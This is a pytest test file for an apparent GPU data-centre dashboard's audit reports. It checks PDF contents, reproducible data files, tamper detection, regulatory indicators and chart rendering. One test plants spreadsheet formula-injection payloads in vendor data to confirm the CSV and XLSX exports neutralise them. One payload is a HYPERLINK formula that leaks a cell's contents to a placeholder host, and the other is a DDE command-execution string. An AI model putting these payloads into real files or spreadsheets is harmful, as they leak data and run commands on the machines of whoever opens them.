"""Auditor reports on the shipped sample: every page's figures in the report, byte-identical data
files when made twice, verify naming an altered file and a changed database, formula-like text
neutralised in CSV and XLSX, the regulatory sheet complete, the PDF rendered to PNG pages."""
from __future__ import annotations

import json
import os
import shutil
import subprocess
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pandas as pd
import pytest

from dashboard import cli, derive, figures, queries
from dashboard.config import Settings
from dashboard.ingest import load_path
from dashboard.pages import PAGES, Page
from dashboard.reports import build, data, regulatory, sections
from dashboard.reports.verify import verify
from dashboard.store import connect

PERIOD = ("2026-11-16", "2026-11-17")  # both days of the sample, --to inclusive
DATA_FORMATS = ("csv", "parquet", "xlsx")


def _require(tool: str) -> str:
    path = shutil.which(tool)
    if path is None:
        if os.environ.get("CI") == "true":
            pytest.fail(f"{tool} is missing (required under CI): apt-get install -y poppler-utils")
        pytest.skip(f"{tool} is missing: apt-get install -y poppler-utils")
    return path


def _make(db: Path, out: Path, settings: Settings | None = None, **kw) -> dict:
    con = connect(db, read_only=True)
    try:
        return build.make(con, settings or Settings(site="Sample site"), out, *PERIOD, **kw)
    finally:
        con.close()


@pytest.fixture(scope="module")
def report(sample_db, tmp_path_factory) -> tuple[Path, dict]:
    """The full report of the sample (all sections, all formats), made once for this module."""
    out = tmp_path_factory.mktemp("report") / "full"
    steps: list[float] = []
    doc = _make(sample_db, out, progress=lambda share, what: steps.append(share))
    assert steps and steps == sorted(steps) and steps[-1] == pytest.approx(1.0), "progress runs 0 → 1"
    return out, doc


def test_every_declared_figure_of_every_page_is_in_the_report(report):
    out, doc = report
    made = {b["figure"]: b for b in doc["figures"]}
    made_from = {m["figure"] for b in doc["figures"] for m in b.get("made_from", [])}
    text = subprocess.run([_require("pdftotext"), str(out / "report.pdf"), "-"], capture_output=True, text=True,
                          check=True).stdout
    sheets = _sheet_names(out / "report.xlsx")
    for page in PAGES:
        for name in page.all_figures:
            assert name in made or name in made_from, f"{page.title}: {name} is not in the report"
            block = made.get(name) or made["regulatory_indicators"]
            assert {f"csv/{block['key']}.csv", f"parquet/{block['key']}.parquet"} <= set(block["files"])
            assert block["key"] in sheets
            assert name in text, f"the PDF does not name {name}"
    for drill in ("perf_racks", "perf_nodes", "perf_gpus", "perf_gpu_series"):
        assert made[drill]["drill"]["values"], drill
    # the drill figures together cover the fleet: every GPU once
    gpus = pd.read_parquet(out / "parquet/perf_gpus.parquet")
    assert len(gpus) == 1024 and gpus["gpu_uuid"].is_unique


def test_a_report_figure_is_the_figure_core_run_with_the_recorded_parameters(report, sample_db):
    out, doc = report
    block = next(b for b in doc["figures"] if b["key"] == "perf_pods")
    con = connect(sample_db, read_only=True)
    try:
        fig = figures.run(con, "perf_pods", Settings(), **block["params"])
    finally:
        con.close()
    stored = pd.read_parquet(out / "parquet/perf_pods.parquet")
    pd.testing.assert_frame_equal(data.canonical(fig.frame, fig.columns).astype(stored.dtypes.to_dict()), stored,
                                  check_dtype=False)
    assert block["params"]["start"] == "2026-11-16T00:00:00" and block["params"]["end"] == "2026-11-18T00:00:00"


def test_same_report_twice_gives_byte_identical_data_files(report, sample_db, tmp_path):
    out, doc = report
    again = _make(sample_db, tmp_path / "again", formats=DATA_FORMATS)
    first = {f["path"]: f for f in doc["files"]}
    assert again["files"], "no files"
    for f in again["files"]:
        assert f["reproducible"] is True
        assert f["sha256"] == first[f["path"]]["sha256"], f"{f['path']} differs between two runs"
        assert (tmp_path / "again" / f["path"]).read_bytes() == (out / f["path"]).read_bytes()
    assert first["report.pdf"]["reproducible"] is False  # it carries its generation time
    assert {b["key"]: b["frame_sha256"] for b in again["figures"]} == \
        {b["key"]: b["frame_sha256"] for b in doc["figures"]}


def test_manifest_lists_files_loads_and_software(report, sample_db):
    out, doc = report
    listed = {f["path"] for f in doc["files"]}
    on_disk = {p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file()} - {"manifest.json"}
    assert listed == on_disk
    for f in doc["files"]:
        assert f["sha256"] == data.file_sha256(out / f["path"]) and f["bytes"] == (out / f["path"]).stat().st_size
    assert doc["software"]["aifd"] and doc["software"]["duckdb"]
    assert doc["period"] == {"start": "2026-11-16T00:00:00", "end": "2026-11-18T00:00:00",
                             "note": "UTC, start inclusive, end exclusive"}
    con = connect(sample_db, read_only=True)
    try:
        log = dict(con.execute("SELECT load_id, sha256 FROM ingest_log WHERE status = 'ok' AND rows_loaded > 0")
                   .fetchall())
    finally:
        con.close()
    loads = {r["load_id"]: r["sha256"] for r in doc["loads"]["rows"]}
    assert loads == log, "every load that stored rows of the sample, with the file hash of the ingest log"
    # each figure says which tables it read: whole days read the daily rollups, not the samples
    read = {b["key"]: b["tables_read"] for b in doc["figures"]}
    assert set(read["energy_headline"]) == {"gpu_daily", "meter_kind_5m"} and read["energy_headline"]["gpu_daily"] > 0
    raw = {k for k, r in read.items() if {"gpu_samples", "meter_samples"} & r.keys()}
    assert raw == {"perf_gpu_series", "store_contents"}, raw   # one GPU's drill-down; the rows stored
    assert "read gpu_daily (" in subprocess.run([_require("pdftotext"), str(out / "report.pdf"), "-"],
                                                capture_output=True, text=True, check=True).stdout
    strings, _ = _xlsx_cells(out / "report.xlsx", "energy_headline")
    assert "tables read" in strings and any("gpu_daily (" in s and "meter_kind_5m (" in s for s in strings)


def test_verify_passes_on_the_same_data_and_names_an_altered_byte(report, sample_db, tmp_path):
    out, _ = report
    con = connect(sample_db, read_only=True)
    try:
        result = verify(out, con, Settings())
    finally:
        con.close()
    assert result.ok, result.problems
    assert result.figures == len(json.loads((out / "manifest.json").read_text())["figures"])

    copy = tmp_path / "copy"
    shutil.copytree(out, copy)
    target = copy / "parquet" / "energy_headline.parquet"
    raw = bytearray(target.read_bytes())
    raw[len(raw) // 2] ^= 0x01
    target.write_bytes(bytes(raw))
    result = verify(copy)
    assert not result.ok
    assert len(result.problems) == 1 and result.problems[0].startswith("parquet/energy_headline.parquet: altered")


def test_verify_names_figures_whose_numbers_the_database_no_longer_gives(sample_copy, tmp_path):
    out = tmp_path / "energy"
    _make(sample_copy, out, sections=["energy"], formats=["csv", "parquet"])
    con = connect(sample_copy)
    con.execute("UPDATE meter_samples SET power_kw = power_kw * 2 WHERE ts >= TIMESTAMP '2026-11-17 12:00'")
    derive.rebuild_meters(con)  # samples changed behind the loader's back: the rollups follow them
    con.close()
    con = connect(sample_copy, read_only=True)
    try:
        result = verify(out, con, Settings())
    finally:
        con.close()
    assert not result.ok
    named = " | ".join(result.problems)
    assert "figure energy_power" in named and "kw: report" in named, named
    assert "figure energy_headline" in named and "facility_kw_avg" in named, named


def test_cli_report_and_verify(sample_db, tmp_path, capsys):
    out = tmp_path / "cli"
    assert cli.main(["--db", str(sample_db), "report", "--from", PERIOD[0], "--to", PERIOD[1],
                     "--sections", "network,data", "--format", "csv,parquet", "--out", str(out), "--quiet"]) == 0
    printed = capsys.readouterr().out
    assert "csv/net_link_summary.csv" in printed and "manifest.json" in printed
    assert cli.main(["--db", str(sample_db), "report", "verify", str(out)]) == 0
    assert "OK: " in capsys.readouterr().out
    (out / "csv" / "net_link_summary.csv").write_text("link\n=1+1\n")
    assert cli.main(["--db", str(sample_db), "report", "verify", str(out)]) == 1
    said = capsys.readouterr().out
    assert "MISMATCH: csv/net_link_summary.csv: altered" in said and "FAILED (1 mismatches)" in said
    # an existing folder is never written into; an unknown section is refused by name
    assert cli.main(["--db", str(sample_db), "report", "--out", str(out), "--quiet"]) == 2
    assert "exists and is not an empty folder" in capsys.readouterr().err
    assert cli.main(["--db", str(sample_db), "report", "--sections", "weather", "--out", str(tmp_path / "w")]) == 2
    assert "unknown section weather" in capsys.readouterr().err


def test_formula_like_vendor_name_is_neutralised_in_csv_and_xlsx(sample_copy, tmp_path):
    evil = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    vendors = tmp_path / "vendors.csv"
    vendors.write_text("vendor_id,name,hq_country,parent,parent_country,notes,valid_from\n"
                       f'evilco,"{evil.replace(chr(34), chr(34) * 2)}",US,,,"+cmd|\' /C calc\'!A0",\n')
    con = connect(sample_copy)
    assert load_path(con, vendors, kind="vendors").status == "ok"
    con.close()
    out = tmp_path / "sov"
    _make(sample_copy, out, sections=["sovereignty"], formats=["csv", "xlsx"])
    csv = pd.read_csv(out / "csv" / "sov_vendors.csv", dtype=str, keep_default_na=False)
    row = csv[csv["vendor_id"] == "evilco"].iloc[0]
    assert row["name"] == "'" + evil
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in csv.to_numpy().ravel())
    strings, cells = _xlsx_cells(out / "report.xlsx", "sov_vendors")
    assert "'" + evil in strings and evil not in strings
    assert not cells["formulas"], "no cell of the workbook is a formula"


def test_xlsx_holds_numbers_as_numbers_with_their_formats(report):
    out, _ = report
    strings, cells = _xlsx_cells(out / "report.xlsx", "energy_headline")
    assert "PUE" in strings and "REF (renewable) (%)" in strings
    row2 = cells["rows"][2]
    from dashboard import queries as q
    numeric = sum(1 for c in q.load("energy_headline").columns if c.unit != "text")
    assert row2 and sum(t == "n" for t, _ in row2.values()) == numeric, row2  # every number is a number
    with zipfile.ZipFile(out / "report.xlsx") as z:
        styles = z.read("xl/styles.xml").decode()
    assert 'formatCode="0.0%"' in styles and 'formatCode="#,##0"' in styles


def test_regulatory_sheet_lists_every_indicator_with_its_figure_or_as_missing(report, sample_db):
    out, _ = report
    sheet = pd.read_csv(out / "csv" / "regulatory_indicators.csv", dtype=str, keep_default_na=False)
    source = pd.read_csv(Settings().indicators_path, dtype=str, keep_default_na=False)
    assert sorted(sheet["indicator_id"]) == sorted(source["indicator_id"])
    merged = sheet.merge(source[["indicator_id", "figure", "legal_reference"]], on="indicator_id",
                         suffixes=("", "_src"))
    missing = merged[merged["figure_src"] == ""]
    assert len(missing) > 20 and (missing["status"] == regulatory.MISSING).all() and (missing["value"] == "").all()
    supplied = merged[merged["figure_src"] != ""]
    assert (supplied["status"] == regulatory.REPORTED).all() and (supplied["value"] != "").all()
    assert (merged["legal_reference"] == merged["legal_reference_src"]).all()
    energy = pd.read_parquet(out / "parquet" / "energy_headline.parquet").iloc[0]
    by_id = sheet.set_index("indicator_id")
    assert float(by_id.loc["enefg_a3_2f_pue", "value"]) == pytest.approx(energy["pue"])
    assert float(by_id.loc["eu_energy_total", "value"]) == pytest.approx(energy["facility_kwh"])
    # the law writes REF in %, the figure is a ratio 0..1
    assert float(by_id.loc["enefg_a3_2b_renewable_share", "value"]) == pytest.approx(energy["ref"] * 100)
    assert by_id.loc["enefg_a3_2b_renewable_share", "value_unit"] == "%"
    links = pd.read_parquet(out / "parquet" / "net_link_summary.parquet")
    assert float(by_id.loc["eu_traffic_in", "value"]) == pytest.approx(links["rx_tb"].sum())
    assert "sum over 6 of 6 rows" in by_id.loc["eu_traffic_in", "basis"]


def test_pdf_renders_to_pages_with_charts_and_its_appendix(report, tmp_path):
    out, doc = report
    pdftoppm = _require("pdftoppm")
    text = subprocess.run([_require("pdftotext"), "-layout", str(out / "report.pdf"), "-"], capture_output=True,
                          text=True, check=True).stdout
    first = text.split("\f")[0]
    assert "AI factory audit report" in first and "2026-11-16 00:00 → 2026-11-18 00:00" in first
    assert "Sample site" in first and f"aifd {doc['software']['aifd']}" in first and "Generated" in first
    assert "Claim check" in text and "Sovereignty scores of the stored stack" in text
    assert "EnEfG Anlage 3 Nr. 2 f" in text and "missing: the product" in text
    assert "time_bucket(to_minutes($bucket_minutes)" in text  # SQL text in the appendix
    pages = text.count("\f")
    subprocess.run([pdftoppm, "-r", "40", "-png", "-f", "1", "-l", "6", str(out / "report.pdf"), str(tmp_path / "p")],
                   check=True)
    pngs = sorted(tmp_path.glob("p-*.png"))
    assert len(pngs) == 6 and pages > 20
    from PIL import Image

    # page 4 is the delivered-FLOPS chart: blue and orange lines and the red target rule are drawn
    colours = Image.open(next(p for p in pngs if p.stem.endswith("4"))).convert("RGB").getcolors(1 << 20)
    saturated = sum(n for n, (r, g, b) in colours if max(r, g, b) - min(r, g, b) > 80)
    assert saturated > 200, "no chart drawn on page 4"


def test_sections_place_every_figure_and_refuse_an_unplaced_one():
    planned = {p.name: p for p in sections.plan()}
    for page in PAGES:
        for name in page.all_figures:
            assert name in planned
    assert planned["energy_power"].section == "energy" and planned["net_link_summary"].section == "network"
    assert planned["perf_headline"].section == "performance" and planned["report_loads"].section == "data"
    order = list(planned)
    assert order.index("perf_pods") < order.index("perf_racks") < order.index("perf_nodes") < order.index("perf_gpus")
    stray = Page("weather", "Weather", "Operators", ":material/cloud:", "weather.py", ("rain_total",))
    with pytest.raises(sections.PlanError, match="rain_total .* belongs to no report section"):
        sections.plan(pages=(*PAGES, stray))
    new_energy_page = Page("energy", "Energy", "Operators", ":material/bolt:", "energy.py", ("pue_trend",))
    assert {p.name: p for p in sections.plan(pages=(*PAGES, new_energy_page))}["pue_trend"].section == "energy"
    undeclared_drill = Page("x", "X", "Operators", ":material/cloud:", "x.py", (), drill=("perf_fans",))
    with pytest.raises(sections.PlanError, match="perf_fans .* needs a selection"):
        sections.plan(pages=(*PAGES, undeclared_drill))


def test_report_buckets_are_the_pages_buckets():
    from datetime import datetime, timedelta

    from dashboard import figures, ui

    assert ui.bucket_minutes is figures.bucket_minutes      # one width rule for pages and reports
    start = datetime(2026, 11, 16)
    widths = [figures.bucket_minutes(start, start + timedelta(hours=h)) for h in (1, 6, 24, 48, 24 * 7, 24 * 90)]
    assert widths == [1, 5, 10, 15, 60, 720]               # about 200 buckets, tidy minutes
    assert figures.bucket_minutes(start, start + timedelta(hours=24), 60) == 30


def test_canonical_rounds_numbers_and_refuses_a_misdeclared_column():
    cols = (queries.Column("x", "kWh", "x", ""), queries.Column("n", "count", "n", ""),
            queries.Column("t", "UTC", "t", ""))
    frame = pd.DataFrame({"x": [0.1 + 0.2, None], "n": [3.0, None], "t": pd.to_datetime(["2026-11-16", None])})
    c = data.canonical(frame, cols)
    assert c["x"].iloc[0] == 0.3 and pd.isna(c["x"].iloc[1]) and str(c["n"].dtype) == "Int64"
    assert data.csv_text(c, cols) == "x,n,t\n0.3,3,2026-11-16T00:00:00\n,,\n"
    bad = (queries.Column("t", "count", "t", ""),)
    with pytest.raises(queries.QueryError, match="declared count but holds times"):
        data.canonical(frame[["t"]], bad)


def test_a_store_without_telemetry_still_reports(con, db_path, tmp_path):
    """No samples: every figure is empty or zero, the PDF says so, verify passes."""
    con.close()
    out = tmp_path / "empty"
    doc = _make(db_path, out, formats=["pdf", "csv"])
    assert (out / "report.pdf").stat().st_size > 10_000
    reg = pd.read_csv(out / "csv" / "regulatory_indicators.csv", dtype=str, keep_default_na=False)
    assert set(reg["status"]) <= {regulatory.NO_DATA, regulatory.MISSING} and len(reg) == 53
    assert next(b for b in doc["figures"] if b["key"] == "perf_gpus")["rows"] == 0
    c = connect(db_path, read_only=True)
    try:
        assert verify(out, c, Settings()).ok
    finally:
        c.close()


def test_the_output_folder_must_be_new_or_empty(sample_db, tmp_path):
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "notes.txt").write_text("mine")
    with pytest.raises(FileExistsError):
        _make(sample_db, tmp_path / "full", sections=["data"], formats=["csv"])
    assert (tmp_path / "full" / "notes.txt").read_text() == "mine"


# ------------------------------------------------------------------------------------ helpers

def _sheet_names(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as z:
        wb = ElementTree.fromstring(z.read("xl/workbook.xml"))
    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    return [s.get("name") for s in wb.findall("m:sheets/m:sheet", ns)]


def _xlsx_cells(path: Path, sheet: str) -> tuple[list[str], dict]:
    """Shared strings of the workbook, and for one sheet: its cells by row ({ref: (type, value)})
    and whether any cell of any sheet holds a formula."""
    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    with zipfile.ZipFile(path) as z:
        shared = ElementTree.fromstring(z.read("xl/sharedStrings.xml"))
        strings = ["".join(t.text or "" for t in si.iter(f"{{{ns['m']}}}t")) for si in shared.findall("m:si", ns)]
        index = _sheet_names(path).index(sheet) + 1
        xml = ElementTree.fromstring(z.read(f"xl/worksheets/sheet{index}.xml"))
        formulas = any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist()
                       if n.startswith("xl/worksheets/"))
    rows: dict[int, dict] = {}
    for r in xml.iter(f"{{{ns['m']}}}row"):
        cells = {}
        for c in r.findall("m:c", ns):
            v = c.find("m:v", ns)
            cells[c.get("r")] = (c.get("t", "n"), None if v is None else v.text)
        rows[int(r.get("r"))] = cells
    return strings, {"rows": rows, "formulas": formulas}


def test_a_drill_run_at_once_gives_the_frame_of_one_run_per_selection(sample_db):
    """perf_gpus in a report is one run with hostname NULL (1,250 runs at 10,000 GPUs took 58 s):
    its frame equals the frames of one run per node, in the selections' order, and a selection's
    rows are the page's drill-down for that node."""
    con = connect(sample_db, read_only=True)
    try:
        run = build.runner(con, Settings())
        start, end = figures.data_range(con)
        params = build.report_params(queries.load("perf_gpus"), start, end)
        nodes = run("perf_nodes", **build.report_params(queries.load("perf_nodes"), start, end),
                    rack=con.execute("SELECT min(rack) FROM gpus").fetchall()[0][0]).frame["hostname"].tolist()
        hosts = con.execute("SELECT DISTINCT hostname FROM gpus ORDER BY hostname DESC LIMIT 7").fetchall()
        values = [nodes[-1], *(h for (h,) in hosts if h != nodes[-1])]  # not in the figure's own order
        drill = sections.DRILL["perf_gpus"]
        assert drill.at_once
        q, at_once, runs = build.run_drill(run, "perf_gpus", drill, values, params)
        one_by_one = sections.Drill(drill.param, drill.source, drill.column, drill.why)
        _, each, each_runs = build.run_drill(run, "perf_gpus", one_by_one, values, params)
    finally:
        con.close()
    assert len(runs) == 1 and len(each_runs) == len(values)
    assert len(at_once) == len(each) > len(values)
    assert at_once["hostname"].drop_duplicates().tolist() == values
    # as the report stores them (a node without XIDs gives an all-NULL column of another dtype)
    pd.testing.assert_frame_equal(data.canonical(at_once, q.columns), data.canonical(each, q.columns))
    assert data.frame_hash(data.canonical(at_once, q.columns), q.columns) == \
        data.frame_hash(data.canonical(each, q.columns), q.columns)


def test_pdf_charts_at_the_sites_size(sample_db):
    """A rack heatmap of a 10,000-GPU day holds 13,152 cells: more than Altair lets through by
    default (5,000: the report failed there), and more racks than a page can label."""
    from dashboard.reports import charts

    racks = [f"p{p:02d}-r{r:02d}" for p in range(1, 19) for r in range(1, 17)][:274]
    buckets = pd.date_range("2026-11-16", periods=48, freq="30min")
    frame = pd.DataFrame([(r, b, b + pd.Timedelta(minutes=30), (i % 97) + 0.5 * j)
                          for i, r in enumerate(racks) for j, b in enumerate(buckets)],
                         columns=["rack", "bucket", "bucket_end", "tensor_active_pct"])
    made = charts.perf_rack_heatmap(frame, Settings())
    drawn = made[0].data
    assert drawn["rack"].nunique() == charts.HEATMAP_RACKS
    lowest = frame.groupby("rack")["tensor_active_pct"].mean().nsmallest(charts.HEATMAP_RACKS).index
    assert set(drawn["rack"]) == set(lowest)
    assert "40 of 274 racks" in made[0].title
    pngs = charts.render("perf_rack_heatmap", frame, Settings())
    assert len(pngs) == 1 and pngs[0][:8] == b"\x89PNG\r\n\x1a\n"
    many = pd.DataFrame({"bucket": pd.date_range("2026-11-16", periods=6_000, freq="min"), "v": range(6_000)})
    import altair as alt

    line = alt.Chart(many).mark_line().encode(x="bucket:T", y="v:Q")
    assert charts.png(line)[:4] == b"\x89PNG"
    with pytest.raises(alt.MaxRowsError):  # the guard is lifted only while the report renders
        line.to_dict()
